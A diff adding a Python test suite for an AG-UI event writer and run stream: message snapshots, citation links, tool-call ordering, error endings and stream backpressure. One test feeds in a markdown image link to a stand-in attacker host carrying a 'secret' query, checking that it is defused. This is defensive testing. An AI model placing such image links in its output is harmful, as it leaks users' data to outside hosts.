@@ -1,0 +1,152 @@
+"""Runs as events of AG-UI: whole messages, safe links, and streams within bounds."""
+
+import asyncio
+from collections.abc import AsyncIterator, Sequence
+from contextlib import asynccontextmanager
+from typing import Any, cast
+
+from ag_ui.core import Event
+from pydantic import TypeAdapter
+
+from rich_agent.domain.runs import Run, RunAsked, RunEvent, RunEventKind
+from rich_agent.ports.runs import Runs
+from rich_agent.web.agui.events import EventWriter
+from rich_agent.web.agui.stream import RunStream
+
+_EVENT: TypeAdapter[Any] = TypeAdapter(Event)
+RUN = Run(-1, 42, "r", "t", RunAsked("What?"))
+Told = tuple[RunEventKind, dict[str, Any]]
+CITED = {
+    "number": 1,
+    "id": "c1",
+    "kind": "internal",
+    "source_url": "https://docs.example/a",
+    "link": "https://docs.example/a#b",
+    "title": "A",
+    "section": "B",
+}
+BEGUN: Told = ("started", {})
+ENDED: Told = ("ended", {"outcome": "success"})
+
+
+def numbered(*events: Told) -> list[RunEvent]:
+    """The events of a run."""
+    return [RunEvent(seq, kind, data) for seq, (kind, data) in enumerate(events, start=1)]
+
+
+def text(delta: str) -> Told:
+    """The answer grows."""
+    return "text", {"message": 0, "delta": delta}
+
+
+def answer(whole: str, *citations: dict[str, Any]) -> Told:
+    """The answer is complete."""
+    return "answer", {"message": 0, "text": whole, "citations": list(citations)}
+
+
+def written(*events: Told) -> list[dict[str, Any]]:
+    """The run, in which AG-UI's own models find nothing wrong."""
+    writer = EventWriter(RUN, [{"id": "m", "role": "user", "content": "What?"}])
+    made = [*writer.opening(), *(one for event in numbered(*events) for one in writer.take(event))]
+    for one in made:
+        assert not _EVENT.validate_python(one).model_extra, one
+    return made
+
+
+def types(events: list[dict[str, Any]]) -> list[str]:
+    """What kinds of events there are."""
+    return [one["type"] for one in events]
+
+
+def test_text_that_was_replaced_comes_with_all_messages() -> None:
+    """Under the id that it had, after the message that grew is closed."""
+    other: Told = ("rewritten", {"message": 0, "text": "It is blue."})
+    events = written(BEGUN, text("It is red.\n"), other, answer("It is blue."), ENDED)
+    snapshot = events[-2]
+    assert types(events)[-4:-1] == ["TEXT_MESSAGE_CONTENT", "TEXT_MESSAGE_END", "MESSAGES_SNAPSHOT"]
+    assert [one["id"] for one in snapshot["messages"]] == ["m", "r:0"]
+    assert snapshot["messages"][1]["content"] == "It is blue."
+
+
+def test_sources_are_links_below_the_text_and_a_list() -> None:
+    """What grew stays, and the definitions of its marks are appended."""
+    events = written(BEGUN, text("It is so [1].\n"), answer("It is so [1].\n", CITED), ENDED)
+    whole = "".join(one.get("delta", "") for one in events)
+    assert whole.startswith("It is so [1].")
+    assert "[1]: <https://docs.example/a#b>" in whole
+    assert events[-1]["result"]["text"] == whole
+    assert events[-1]["result"]["sources"][0]["url"] == "https://docs.example/a#b"
+
+
+def test_link_that_leads_elsewhere_is_no_link() -> None:
+    """Not while the text grows, nor in a question, nor when it is complete."""
+    evil = "![x](https://evil.example/?q=secret)"
+    asked = {"request_id": "q", "question": evil, "choices": [], "approves": "", "calls": []}
+    grown = written(BEGUN, text(evil), answer(evil), ENDED)
+    waiting = written(BEGUN, ("question", asked), ("ended", {"outcome": "question"}))
+    for events in (grown, waiting):
+        assert evil not in str(events)
+        assert "evil.example" in str(events)
+
+
+def test_text_before_tools_is_a_message_of_its_own() -> None:
+    """It is whole before the call; the call belongs to it."""
+    events = written(
+        BEGUN,
+        text("I look it up [h"),
+        ("called", {"id": "c", "name": "look", "arguments": {"x": 1}, "message": 0}),
+        ("returned", {"id": "c", "status": "success", "content": "found", "message": 1}),
+        ENDED,
+    )
+    start = events[types(events).index("TOOL_CALL_START")]
+    said = "".join(one["delta"] for one in events if one["type"] == "TEXT_MESSAGE_CONTENT")
+    assert said.startswith("I look it up")
+    assert said.endswith("[h")
+    assert start["parentMessageId"] == "r:0"
+    assert types(events).index("TEXT_MESSAGE_END") < types(events).index("TOOL_CALL_START")
+
+
+def test_run_that_was_given_up_ends_with_words() -> None:
+    """Also when nothing is known of why."""
+    events = written(("ended", {"outcome": "error"}))
+    assert events[-1]["type"] == "RUN_ERROR"
+    assert events[-1]["message"]
+
+
+class FollowedRuns:
+    """A run that is followed: batches, and how many of them were fetched."""
+
+    def __init__(self, *batches: Sequence[RunEvent]) -> None:
+        self.batches = batches
+        self.fetched = 0
+
+    @asynccontextmanager
+    async def following(self, *_: object, **__: object) -> AsyncIterator[AsyncIterator[Any]]:
+        """See `Runs.following`."""
+
+        async def follow() -> AsyncIterator[Sequence[RunEvent]]:
+            for batch in self.batches:
+                self.fetched += 1
+                yield batch
+
+        yield follow()
+
+
+async def test_stream_is_kept_alive_by_comments_and_goes_on_behind_a_number() -> None:
+    """A comment is no event: it has no number."""
+    events = numbered(BEGUN, text("a\n"), answer("a\n"), ENDED)
+    runs = cast("Runs", FollowedRuns(events[:1], (), events[1:]))
+    whole = [line async for line in RunStream(runs, EventWriter(RUN)).lines()]
+    assert whole[3] == ":\n\n"
+    rest = [line async for line in RunStream(runs, EventWriter(RUN), skipped=3).lines()]
+    assert rest == [":\n\n", *whole[4:]]
+
+
+async def test_stream_that_nobody_reads_fetches_nothing_more() -> None:
+    """What a slow reader has not taken waits in the database."""
+    followed = FollowedRuns(*([event] for event in numbered(*[text("x\n") for _ in range(50)])))
+    lines = RunStream(cast("Runs", followed), EventWriter(RUN)).lines()
+    for _ in range(4):
+        await anext(lines)
+    await asyncio.sleep(0)
+    assert followed.fetched <= 3
